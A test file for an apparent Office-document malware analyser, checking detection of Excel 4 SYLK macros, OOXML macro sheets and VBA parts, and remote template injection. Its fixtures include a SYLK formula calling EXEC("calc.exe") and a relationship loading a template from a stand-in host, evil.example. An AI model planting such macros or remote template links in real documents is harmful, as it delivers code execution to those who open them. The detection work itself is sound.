import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { analyzeOfficeXml } from '../../../src/core/office/office-xml.js';
import { analyzeOoxml } from '../../../src/core/office/ooxml.js';
import { analyzeSylk } from '../../../src/core/office/sylk.js';

const F = path.resolve(__dirname, '../../fixtures');

describe('SYLK', () => {
  it('finds the Auto_Open name and the macro-sheet functions of the oletools sample', () => {
    const report = analyzeSylk(readFileSync(path.join(F, 'office-oletools/excel4-macros/excel4_sample_macro.slk')));
    expect(report.autoNames).toEqual(['Auto_Open']);
    expect([...report.macroFunctions].sort()).toEqual(['ALERT', 'HALT']);
  });

  it('a SYLK of ordinary formulas is not macros; escaped semicolons do not split fields', () => {
    expect(analyzeSylk(Buffer.from('ID;PWXL;N;E\r\nC;Y1;X1;K2;ESUM(A2:A9)\r\nC;Y2;X1;K"a;;EEXEC(x)"\r\nE\r\n'))).toEqual({ autoNames: [], macroFunctions: [] });
    expect(analyzeSylk(Buffer.from('ID;P\r\nC;Y1;X1;K0;EEXEC("calc.exe")\r\n')).macroFunctions).toEqual(['EXEC']);
  });
});

describe('OOXML package', () => {
  it('finds macro sheets by folder and by content type, VBA parts by content type', () => {
    const types = '<Types><Override PartName="/xl/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/xl/other/s1.bin" ContentType="application/vnd.ms-excel.macrosheet"/></Types>';
    const report = analyzeOoxml(['xl/macrosheets/sheet1.xml', 'xl/other/s1.bin'], types, []);
    expect([...report.macroSheets].sort()).toEqual(['xl/macrosheets/sheet1.xml', 'xl/other/s1.bin']);
    expect(report.vbaParts).toEqual(['xl/vbaProject.bin']);
  });

  it('reports an external attachedTemplate (remote template injection) and ignores external hyperlinks', () => {
    const rels =
      '<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>' +
      '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://example.com/" TargetMode="External"/></Relationships>';
    const report = analyzeOoxml([], '', [{ name: 'word/_rels/settings.xml.rels', xml: rels }]);
    expect(report.remoteLoads).toEqual([{ part: 'word/_rels/settings.xml.rels', type: 'attachedTemplate', target: 'http://evil.example/t.dotm' }]);
  });
});

describe('Office XML (Word 2003 XML, Flat OPC)', () => {
  it('the clean corpus samples carry no macros; an editdata.mso or a vbaProject part does', () => {
    expect(analyzeOfficeXml(readFileSync(path.join(F, 'office-oletools/msodde/harmless-clean-2003.xml'))).macroContainers).toEqual([]);
    expect(analyzeOfficeXml(readFileSync(path.join(F, 'office-oletools/msodde/harmless-clean.xml'))).macroContainers).toEqual([]);
    expect(analyzeOfficeXml(Buffer.from('<?xml version="1.0"?><w:wordDocument xmlns:w="urn:schemas-microsoft-com:office:word"><w:binData w:name="editdata.mso">AAA=</w:binData>')).macroContainers).toEqual(['w:binData editdata.mso']);
    expect(analyzeOfficeXml(Buffer.from('<pkg:package><pkg:part pkg:name="/word/vbaProject.bin" pkg:contentType="application/vnd.ms-office.vbaProject">')).macroContainers).toEqual(['/word/vbaProject.bin']);
  });
});
